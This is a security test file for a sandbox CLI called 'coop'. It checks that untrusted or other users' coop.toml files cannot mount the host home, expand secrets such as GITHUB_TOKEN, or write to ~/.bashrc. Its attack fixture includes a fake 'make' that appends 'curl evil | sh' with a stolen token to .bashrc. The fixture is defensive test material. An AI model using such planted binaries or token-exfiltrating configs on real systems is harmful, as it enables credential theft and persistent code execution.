// SPEC §12: "An untrusted project configuration cannot widen a box; another user's files
// are never read as configuration." Run as root and as the ordinary users. Files owned by
// another user can only be made by root: the root run leaves them in the runner's
// COOP_TEST_SHARED directory for the ordinary users' runs (without it they are skipped).
import { chmodSync, chownSync, copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { isPrivateGroup } from '../../lib/config/owner.js';
import { coop } from '../helpers/cli.js';
import { tmp } from '../helpers/tmp.js';

const NOBODY = 65534;
const uid = process.geteuid!();
const isRoot = uid === 0;
const shared = process.env.COOP_TEST_SHARED;
const me = process.env.COOP_TEST_AS ?? 'root';
const secret = `ghp_test_${process.pid}_secret`;

// The attacker's files, as on a shared machine: /tmp/coop.toml and a `make` in /tmp/bin.
const ATTACK_TOML = '[sandbox]\nmounts = ["~:/h"]\n[env]\nPATH = "/workspace/bin:/usr/bin:/bin"\nSTOLEN = "$GITHUB_TOKEN"\n';
const ATTACK_MAKE = '#!/bin/sh\necho "curl evil | sh # $STOLEN" >> /h/.bashrc\necho pwned\n';
const VICTIM_CMD = ['run', '--', 'sh', '-c', 'make 2>/dev/null; echo "stolen=[$STOLEN]"; test -e /h && echo has-h || echo no-h'];

function writeAttack(dir: string): void {
  mkdirSync(join(dir, 'bin'), { recursive: true });
  writeFileSync(join(dir, 'coop.toml'), ATTACK_TOML);
  writeFileSync(join(dir, 'bin', 'make'), ATTACK_MAKE, { mode: 0o755 });
}

/** A world-writable, sticky directory holding nobody's coop.toml (root makes it; others find it). */
function attackDir(): string | null {
  const dir = shared ? join(shared, 'trust-attack') : join(tmp('coop-attack-'), 'tmp');
  if (!isRoot) return existsSync(join(dir, 'coop.toml')) ? dir : null;
  writeAttack(dir);
  for (const p of [dir, join(dir, 'bin'), join(dir, 'bin', 'make'), join(dir, 'coop.toml')]) chownSync(p, NOBODY, NOBODY);
  chmodSync(dir, 0o1777);
  chmodSync(join(dir, 'bin'), 0o755);
  return dir;
}

/** Per ordinary user, a directory of their own with their coop.toml writable by a shared group. */
function groupFixture(): string | null {
  const users = isRoot ? (process.env.COOP_TEST_USERS ?? '').split(',').map((s) => s.trim()).filter(Boolean) : [];
  if (shared) {
    for (const user of users) {
      const dir = join(shared, 'trust-group', user);
      const id = Number(execFileSync('id', ['-u', user], { encoding: 'utf8' }));
      mkdirSync(dir, { recursive: true, mode: 0o755 });
      writeFileSync(join(dir, 'coop.toml'), '[env]\nMARK = "file"\n', { mode: 0o664 });
      chmodSync(join(dir, 'coop.toml'), 0o664);
      chownSync(dir, id, id);
      chownSync(join(dir, 'coop.toml'), id, NOBODY);
    }
  }
  if (isRoot) {
    const dir = tmp('coop-group-');
    writeFileSync(join(dir, 'coop.toml'), '[env]\nMARK = "file"\n');
    chownSync(join(dir, 'coop.toml'), 0, NOBODY);
    chmodSync(join(dir, 'coop.toml'), 0o664);
    return dir;
  }
  const dir = shared ? join(shared, 'trust-group', me) : '';
  return dir && existsSync(join(dir, 'coop.toml')) ? dir : null;
}

const attack = attackDir();
const groupDir = groupFixture();
if (!attack) console.log("skipped: another user's coop.toml — only root can make one, and no root run of this file left it");
if (!groupDir) console.log('skipped: a coop.toml writable by a shared group — only root can make one, and no root run of this file left it');

/** A victim: a fake HOME with a .bashrc, a token in the environment, a private COOP_HOME. */
function victim() {
  const home = tmp('coop-victim-');
  writeFileSync(join(home, '.bashrc'), '# my shell\n');
  const coopHome = tmp('coop-home-'); // not under HOME: coop refuses to mount its own state into a box
  const env = { PATH: process.env.PATH!, HOME: home, COOP_HOME: coopHome, GITHUB_TOKEN: secret };
  return { home, coopHome, env, bashrc: () => readFileSync(join(home, '.bashrc'), 'utf8') };
}

const warn = (file: string, why: string) => `coop: warning: ${file}: ignored: ${why}\n`;

(attack ? test : test.skip)("another user's /tmp/coop.toml is ignored: no host mount, no secret, no write to ~/.bashrc", async () => {
  const v = victim();
  const cwd = join(attack!, `victim-${me}`);
  mkdirSync(cwd, { recursive: true });
  const file = join(attack!, 'coop.toml');
  const r = await coop(VICTIM_CMD, { cwd, env: v.env });
  assert.is(r.stdout, 'stolen=[]\nno-h\n', r.stderr);
  assert.is(r.stderr, warn(file, `it belongs to uid ${NOBODY}, not to you or root; other users' files are never read as configuration`));
  assert.is(r.code, 0);
  assert.is(v.bashrc(), '# my shell\n');
  // named explicitly it is refused, and it cannot be trusted
  const explicit = await coop(['run', '--config', file, '--', 'true'], { cwd, env: v.env });
  assert.is(explicit.stderr, `coop: ${file}: refused: it belongs to uid ${NOBODY}, not to you or root; other users' files are never read as configuration\n`);
  assert.is(explicit.code, 1);
  const trust = await coop(['trust'], { cwd, env: v.env });
  assert.is(trust.stderr, `coop: ${file}: refused: it belongs to uid ${NOBODY}, not to you or root; other users' files are never read as configuration\n`);
  assert.is(trust.code, 1);
  assert.not.ok(existsSync(join(v.home, '.config')), 'no trust recorded');
});

test('the same files as your own project: refused until `coop trust`, then used as written', async () => {
  const v = victim();
  const ws = tmp('coop-ws-');
  writeAttack(ws);
  const file = join(ws, 'coop.toml');
  const refused = await coop(VICTIM_CMD, { cwd: ws, env: v.env });
  assert.is(refused.stderr, `coop: ${file}: not trusted, and it reaches outside the box: ` +
    `sandbox.mounts (line 2) mounts ${v.home} at /h, outside the workspace; env.STOLEN (line 5) expands $GITHUB_TOKEN from your environment. ` +
    'Check these, then run `coop trust`\n');
  assert.is(refused.code, 1);
  assert.is(refused.stdout, '');
  assert.equal(readdirSync(v.coopHome), [], 'nothing started');

  const trusted = await coop(['trust'], { cwd: ws, env: v.env });
  assert.is(trusted.code, 0, trusted.stderr);
  const sha = execFileSync('sha256sum', [file], { encoding: 'utf8' }).slice(0, 16);
  assert.is(trusted.stdout, `${file} reaches outside the box:\n` +
    `  sandbox.mounts (line 2) mounts ${v.home} at /h, outside the workspace\n` +
    '  env.STOLEN (line 5) expands $GITHUB_TOKEN from your environment\n' +
    `Trusted ${file} (sha256 ${sha}); once it changes, it needs \`coop trust\` again.\n`);
  const store = join(v.home, '.config', 'coop');
  assert.equal(readdirSync(store), ['trusted.json'], 'written atomically: no temporary file left');
  assert.is(statSync(join(store, 'trusted.json')).mode & 0o777, 0o600);
  assert.not.match(readFileSync(join(store, 'trusted.json'), 'utf8'), secret);

  // Trusted, the file does what it says (which is why trust matters).
  const r = await coop(VICTIM_CMD, { cwd: ws, env: v.env });
  assert.is(r.stdout, `pwned\nstolen=[${secret}]\nhas-h\n`, r.stderr);
  assert.match(v.bashrc(), `# ${secret}\n`);
});

test('a file changed after `coop trust` is refused again; --revoke forgets it', async () => {
  const v = victim();
  const ws = tmp('coop-ws-');
  const file = join(ws, 'coop.toml');
  writeFileSync(file, '[env]\nTOKEN = "$GITHUB_TOKEN"\n');
  assert.is((await coop(['trust'], { cwd: ws, env: v.env })).code, 0);
  const ok = await coop(['run', '--', 'sh', '-c', 'echo "${#TOKEN}"'], { cwd: ws, env: v.env });
  assert.is(ok.stdout, `${secret.length}\n`, ok.stderr);

  writeFileSync(file, '[env]\nTOKEN = "$GITHUB_TOKEN"\n[sandbox]\nmounts = ["/etc:/host-etc"]\n');
  const changed = await coop(['run', '--', 'true'], { cwd: ws, env: v.env });
  assert.is(changed.stderr, `coop: ${file}: changed since you trusted it, and it reaches outside the box: ` +
    'env.TOKEN (line 2) expands $GITHUB_TOKEN from your environment; sandbox.mounts (line 4) mounts /etc at /host-etc, outside the workspace. ' +
    'Check these, then run `coop trust` again\n');
  assert.is(changed.code, 1);
  // -w: the hint names the file
  const viaW = await coop(['run', '-w', ws, '--', 'true'], { cwd: '/', env: v.env });
  assert.match(viaW.stderr, /then run `coop trust --config [^`]+\/coop\.toml` again\n$/);

  assert.is((await coop(['trust'], { cwd: ws, env: v.env })).code, 0);
  assert.is((await coop(['run', '--', 'true'], { cwd: ws, env: v.env })).code, 0);
  const revoked = await coop(['trust', '--revoke'], { cwd: ws, env: v.env });
  assert.is(revoked.stdout, `No longer trusted: ${file}\n`);
  const again = await coop(['run', '--', 'true'], { cwd: ws, env: v.env });
  assert.match(again.stderr, `coop: ${file}: not trusted, and it reaches outside the box: env.TOKEN (line 2)`);
  assert.is(again.code, 1);
});

test('each key that reaches outside the box is refused with its exact message; nothing starts', async () => {
  const v = victim();
  const outside = tmp('coop-outside-');
  const cases: [string, (ws: string) => string][] = [
    [`[sandbox]\nmounts = ["${outside}:/data"]\n`, () => `sandbox.mounts (line 2) mounts ${outside} at /data, outside the workspace`],
    ['[sandbox]\nmounts = ["~/.ssh:~/.ssh:ro"]\n', () => `sandbox.mounts (line 2) mounts ${v.home}/.ssh at ~/.ssh, outside the workspace`],
    ['[sandbox]\nmounts = ["./escape:/e"]\n', (ws) => `sandbox.mounts (line 2) mounts ${ws}/escape (= ${outside}) at /e, outside the workspace`],
    ['[sandbox]\nmounts = ["npm-cache:~/.npm"]\n', () => 'sandbox.mounts (line 2) uses the named volume "npm-cache" (kept on the host, shared by boxes)'],
    ['[env]\nK = "${ANTHROPIC_API_KEY}"\n', () => 'env.K (line 2) expands $ANTHROPIC_API_KEY from your environment'],
    [`[sandbox]\nimage = "dir:${outside}"\n`, () => `sandbox.image (line 2) reads dir:${outside}, outside the workspace`],
    [`[sandbox]\nimage = "oci-archive:${outside}/i.tar"\n`, () => `sandbox.image (line 2) reads oci-archive:${outside}/i.tar, outside the workspace`],
    ['[workspace]\nmount = ".."\n', (ws) => `workspace.mount (line 2) is ${join(ws, '..')}, outside the directory of this file`],
  ];
  for (const [toml, item] of cases) {
    const ws = tmp('coop-ws-');
    execFileSync('ln', ['-s', outside, join(ws, 'escape')]);
    writeFileSync(join(ws, 'coop.toml'), toml);
    const r = await coop(['run', '--', 'true'], { cwd: ws, env: v.env });
    assert.is(r.stderr, `coop: ${join(ws, 'coop.toml')}: not trusted, and it reaches outside the box: ${item(ws)}. Check these, then run \`coop trust\`\n`, toml);
    assert.is(r.code, 1);
  }
  assert.equal(readdirSync(v.coopHome), []);
});

test('files that other users can change are ignored; with --config they are refused', async () => {
  const v = victim();
  const mark = ['run', '--', 'sh', '-c', 'echo "[$MARK]"'];
  const project = (mode: number, dirMode = 0o700) => {
    const ws = tmp('coop-ws-');
    writeFileSync(join(ws, 'coop.toml'), '[env]\nMARK = "file"\n');
    chmodSync(join(ws, 'coop.toml'), mode);
    chmodSync(ws, dirMode);
    return { ws, file: join(ws, 'coop.toml') };
  };
  const o = project(0o646);
  const r1 = await coop(mark, { cwd: o.ws, env: v.env });
  assert.is(r1.stdout, '[]\n');
  assert.is(r1.stderr, warn(o.file, `other users can write it (mode 0646); if it is yours, run: chmod go-w ${o.file}`));
  const cfg = await coop(['run', '--config', o.file, '--', 'true'], { cwd: '/', env: v.env });
  assert.is(cfg.stderr, `coop: ${o.file}: refused: other users can write it (mode 0646); if it is yours, run: chmod go-w ${o.file}\n`);
  assert.is(cfg.code, 1);

  const d = project(0o644, 0o1777); // like /tmp: sticky, but anyone may create coop.toml there
  const r2 = await coop(mark, { cwd: d.ws, env: v.env });
  assert.is(r2.stdout, '[]\n');
  assert.is(r2.stderr, warn(d.file, `its directory ${d.ws}: other users can write it (mode 1777); keep coop.toml in a directory only you can write`));

  if (groupDir) {
    const f = join(groupDir, 'coop.toml');
    const r3 = await coop(mark, { cwd: groupDir, env: v.env });
    assert.is(r3.stdout, '[]\n');
    assert.is(r3.stderr, warn(f, `its group (gid ${NOBODY}) can write it (mode 0664); if it is yours, run: chmod go-w ${f}`));
  }
  // ... but a group that is only yours (user-private groups with umask 002) changes nothing
  const p = project(0o664);
  if (isPrivateGroup(uid, statSync(p.file).gid)) {
    const r4 = await coop(mark, { cwd: p.ws, env: v.env });
    assert.is(r4.stdout, '[file]\n', r4.stderr);
    assert.is(r4.stderr, '');
  } else console.log(`skipped: your group ${statSync(p.file).gid} is not a user-private group`);

  // a FIFO swapped in for coop.toml neither hangs coop nor is read
  const fifoWs = tmp('coop-ws-');
  execFileSync('mkfifo', [join(fifoWs, 'coop.toml')]);
  const r5 = await coop(mark, { cwd: fifoWs, env: v.env });
  assert.is(r5.stderr, warn(join(fifoWs, 'coop.toml'), 'it is not a regular file; coop.toml must be a regular file'));
  assert.is(r5.stdout, '[]\n');
});

test('the global file needs no trust, but is ignored when others can write it', async () => {
  const v = victim();
  const outside = tmp('coop-outside-');
  writeFileSync(join(outside, 'note'), 'from the global mount\n');
  const dir = join(v.home, '.config', 'coop');
  mkdirSync(dir, { recursive: true });
  const global = join(dir, 'default.toml');
  writeFileSync(global, `[sandbox]\nmounts = ["${outside}:/g:ro"]\n[env]\nTOKEN = "$GITHUB_TOKEN"\n`);
  const ws = tmp('coop-ws-');
  writeFileSync(join(ws, 'coop.toml'), '[env]\nMARK = "project"\n');
  const cmd = ['run', '--', 'sh', '-c', 'cat /g/note; echo "${#TOKEN} $MARK"'];
  const r = await coop(cmd, { cwd: ws, env: v.env });
  assert.is(r.stdout, `from the global mount\n${secret.length} project\n`, r.stderr);
  assert.is(r.stderr, '');
  chmodSync(global, 0o666);
  const ignored = await coop(['run', '--', 'sh', '-c', 'test -e /g || echo "no-g [$TOKEN] $MARK"'], { cwd: ws, env: v.env });
  assert.is(ignored.stdout, 'no-g [] project\n');
  assert.is(ignored.stderr, warn(global, `other users can write it (mode 0666); if it is yours, run: chmod go-w ${global}`));
});

test('trust is for one path and its exact content: a copy elsewhere is not trusted', async () => {
  const v = victim();
  const a = tmp('coop-ws-');
  const b = tmp('coop-ws-');
  writeFileSync(join(a, 'coop.toml'), '[env]\nT = "$GITHUB_TOKEN"\n');
  assert.is((await coop(['trust'], { cwd: a, env: v.env })).code, 0);
  copyFileSync(join(a, 'coop.toml'), join(b, 'coop.toml'));
  assert.is((await coop(['run', '--', 'true'], { cwd: a, env: v.env })).code, 0);
  const r = await coop(['run', '--', 'true'], { cwd: b, env: v.env });
  assert.is(r.code, 1);
  assert.match(r.stderr, `coop: ${join(b, 'coop.toml')}: not trusted`);
});

test.run();
